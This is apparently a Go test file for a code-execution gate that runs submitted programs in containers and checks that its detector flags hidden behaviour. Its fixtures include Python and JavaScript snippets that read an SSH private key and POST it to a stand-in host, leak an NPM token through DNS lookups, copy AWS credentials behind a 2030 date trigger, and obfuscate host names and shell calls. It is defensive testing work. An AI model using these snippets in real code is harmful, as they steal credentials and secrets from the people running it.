package execute_test

import (
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/aigate/gate/gate"
	"github.com/aigate/gate/gate/execute"
)

// ordinary are programs that do much and mean no harm.
var ordinary = map[string]string{
	"science.py":    "import numpy, pandas\nprint(pandas.DataFrame({'a': numpy.arange(3)}).sum())\n",
	"files.py":      "import json, os, tempfile, pathlib\nwith tempfile.TemporaryDirectory() as d:\n    p = pathlib.Path(d) / 'a.json'\n    p.write_text(json.dumps({'a': 1}))\n    os.rename(p, pathlib.Path(d) / 'b.json')\nprint(os.path.expanduser('~'), sorted(os.listdir('.'))[:1])\n",
	"children.py":   "import subprocess, sys\nprint(subprocess.run([sys.executable, '-c', 'print(1)'], capture_output=True, text=True).stdout)\np = subprocess.Popen(['sleep', '30'])\np.terminate()\np.wait()\n",
	"local.py":      "import socket, threading\ns = socket.create_server(('127.0.0.1', 0))\nthreading.Thread(target=lambda: s.accept()[0].sendall(b'x'), daemon=True).start()\nprint(socket.create_connection(s.getsockname()).recv(1), socket.getfqdn())\n",
	"fetch.py":      "import requests\nprint(requests.get('https://api.example.com/items', timeout=10).status_code)\n",
	"test_plain.py": "import subprocess\n\ndef test_script(tmp_path):\n    (tmp_path / 'x.sh').write_text('echo hello')\n    assert subprocess.check_output(['sh', str(tmp_path / 'x.sh')]) == b'hello\\n'\n",
	"server.js":     "const http = require('http');\nconst s = http.createServer((q, r) => r.end('x')).listen(0, '127.0.0.1', () => http.get({ port: s.address().port }, (r) => { r.resume(); s.close(); }));\n",
	"plain.test.js": "const { test } = require('node:test');\nconst fs = require('fs');\ntest('x', () => fs.writeFileSync(require('os').tmpdir() + '/x.json', '{}'));\n",
	"cmd/x/main.go": "package main\n\nimport (\n\t\"fmt\"\n\t\"net/http\"\n\t\"os\"\n)\n\nfunc main() { fmt.Println(http.MethodGet, os.Getpid()) }\n",
	"lib/a.go":      "package lib\n\nfunc A() int { return 1 }\n",
	"lib/a_test.go": "package lib\n\nimport (\n\t\"os\"\n\t\"testing\"\n)\n\nfunc TestA(t *testing.T) {\n\tif err := os.WriteFile(t.TempDir()+\"/x\", nil, 0o644); err != nil || A() != 1 {\n\t\tt.Fatal(err)\n\t}\n}\n",
	"go.mod":        "module example.com/m\n\ngo 1.21\n",
	"build.sh":      "#!/bin/bash\nset -eu\nd=$(mktemp -d)\ntrap 'rm -rf \"$d\"' EXIT\nfor f in *.py; do wc -l \"$f\" >>\"$d/count\"; done\nsort \"$d/count\" | tail -1\nuname -s\n",
	"Makefile":      "all:\n\t@echo building\n\t@grep -c import *.py | sort\n",
}

func TestOrdinaryProgramsAreQuietInARealContainer(t *testing.T) {
	t.Parallel()
	for _, runtime := range []string{"runc", "runsc"} {
		t.Run(runtime, func(t *testing.T) {
			t.Parallel()
			ordinaryIsQuiet(t, runtime)
		})
	}
}

func TestAThiefIsCaughtInARealContainer(t *testing.T) {
	t.Parallel()
	for _, runtime := range []string{"runc", "runsc"} {
		t.Run(runtime, func(t *testing.T) {
			t.Parallel()
			thiefIsCaught(t, runtime)
		})
	}
}

// stealthy are programs whose text says nothing of what they do.
var stealthy = map[string]struct{ text, want string }{
	"post.py":   {"import urllib.request\nhost = ''.join(reversed('moc.elpmaxe.tcelloc'))\nurllib.request.urlopen('http://' + host + '/in', data=b'x')\n", "network/observed-new-host suspicious"},
	"post.js":   {"const host = [...'moc.elpmaxe.tcelloc'].reverse().join('');\nfetch('https://' + host + '/in', { method: 'POST', body: 'x' }).then(() => {});\n", "network/observed-new-host suspicious"},
	"names.py":  {"import socket\nfor i in range(25):\n    try:\n        socket.gethostbyname('a%d.example.org' % i)\n    except OSError:\n        pass\n", "network/observed-many-names suspicious"},
	"list.py":   {"print(len(open('/e' + 'tc/pass' + 'wd').read()))\n", "file-access/observed-account-list suspicious"},
	"shell.py":  {"import importlib\ngetattr(importlib.import_module('o' + 's'), 'sys' + 'tem')('true')\n", "shell-out/observed-hidden-shell suspicious"},
	"memory.py": {"x = bytearray(300 << 20)\nfor i in range(0, len(x), 4096):\n    x[i] = 1\nprint('ready')\n", "resource-exhaustion/observed-memory-alert suspicious"},
	"busy.py":   {"import time\nwhile time.process_time() < 3.5:\n    pass\nprint('ready')\n", "resource-exhaustion/observed-cpu-alert suspicious"},
	"known.py":  {"import urllib.request\nurllib.request.urlopen('http://api.example.com/in', data=b'x')\n", ""},
	"own.py":    {"import os, pwd\nprint(pwd.getpwuid(os.getuid()).pw_dir)\n", ""},
	// A thread that ends with the program goes on where the file is imported.
	"thread.py": {"import os, threading, time\ndef go():\n    time.sleep(0.5)\n    open(os.path.expanduser('~/.ssh/id_rsa')).read()\nthreading.Thread(target=go, daemon=True).start()\n", "credentials/observed-read suspicious"},
	"open.py":   {"import os\nos.system('true')\n", ""},
}

func TestHiddenBehaviourIsSeenInARealContainer(t *testing.T) {
	t.Parallel()
	for _, runtime := range []string{"runc", "runsc"} {
		t.Run(runtime, func(t *testing.T) {
			t.Parallel()
			s := realStage(t, runtime, func(o *execute.Options) {
				o.Policy.Conditions = 0
				o.Policy.MemoryAlert, o.Policy.CPUAlert = gate.Alert{Amount: 256 << 20, Own: true}, gate.Alert{Amount: int64(3 * time.Second), Own: true}
			})
			texts := map[string]string{}
			for path, program := range stealthy {
				texts[path] = "if __name__ == '__main__':\n    " + strings.ReplaceAll(strings.TrimSpace(program.text), "\n", "\n    ") + "\n"
				if strings.HasSuffix(path, ".js") {
					texts[path] = program.text
				}
			}
			c := changeOf(files(texts))
			c.Base = files(map[string]string{"README.md": "It talks to https://api.example.com/.\n"})
			_, found := executions(t, s, c)
			for path, program := range stealthy {
				var got []string
				for _, f := range found.Of(path) {
					if f.Severity >= gate.SeveritySuspicious {
						got = append(got, f.Rule+" "+f.Severity.String())
					}
				}
				if want := program.want; want != "" && !slices.Contains(got, want) || want == "" && len(got) > 0 {
					t.Errorf("%s: %v, want %q", path, got, want)
				}
			}
		})
	}
}

func ordinaryIsQuiet(t *testing.T, runtime string) {
	t.Helper()
	s := sharedStage(t, runtime, 0)
	c := changeOf(files(ordinary))
	out, found := executions(t, s, c)
	for path := range ordinary {
		for _, f := range found.Of(path) {
			if f.Severity != gate.SeverityNote {
				t.Errorf("%s: %s %s: %s", path, f.Rule, f.Severity, f.Evidence)
			}
		}
		if e := out.Executions[path]; e.Status != exited && e.Status != notRun || e.ExitCode > 0 {
			t.Errorf("%s: %s, %q: %q", path, e.Status, e.Reason, e.Units[0].Stderr.Text)
		}
	}
	for _, c := range out.Derived {
		if c.Target.Parent != "test_plain.py" { // which writes a script and runs it
			t.Errorf("code that appeared: %s: %.200q", c.Target.Path, c.Content)
		}
	}
	for _, g := range out.Incomplete {
		t.Errorf("%s: %s", g.Path, g.Reason)
	}
}

func thiefIsCaught(t *testing.T, runtime string) {
	t.Helper()
	s := sharedStage(t, runtime, 2)
	out, found := executions(t, s, changeOf(files(map[string]string{
		"post.py": "import os, urllib.request\nkey = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n" +
			"urllib.request.urlopen('https://collect.example.com/in', data=key.encode().hex().encode())\nprint(key)\n",
		"dns.js":  "const dns = require('dns');\ndns.lookup(Buffer.from(process.env.NPM_TOKEN).toString('hex').slice(0, 60) + '.x.example.com', () => {});\n",
		"late.py": "import datetime, shutil\nif datetime.datetime.now().year >= 2030:\n    open('/workspace/copy', 'w').write(open('/tmp/.aws/credentials').read())\nprint('ready')\n",
	})))
	for path, want := range map[string][]string{
		"post.py": {"exfiltration/observed-canary dangerous", "credentials/observed-read suspicious", "exfiltration/observed-printed suspicious"},
		"dns.js":  {"exfiltration/observed-canary dangerous"},
		"late.py": {"time-trigger/observed-conditional dangerous", "exfiltration/observed-copy dangerous", "credentials/observed-read suspicious"},
	} {
		got := rules(found, path)
		for _, w := range want {
			if !slices.Contains(got, w) {
				t.Errorf("%s: not found: %s; found %q, units %+v", path, w, got, out.Executions[path].Units)
			}
		}
	}
	if text := out.Executions["post.py"].Units[0].Stdout.Text; !strings.Contains(text, "<canary: ssh rsa key>") {
		t.Errorf("output %q", text)
	}
}
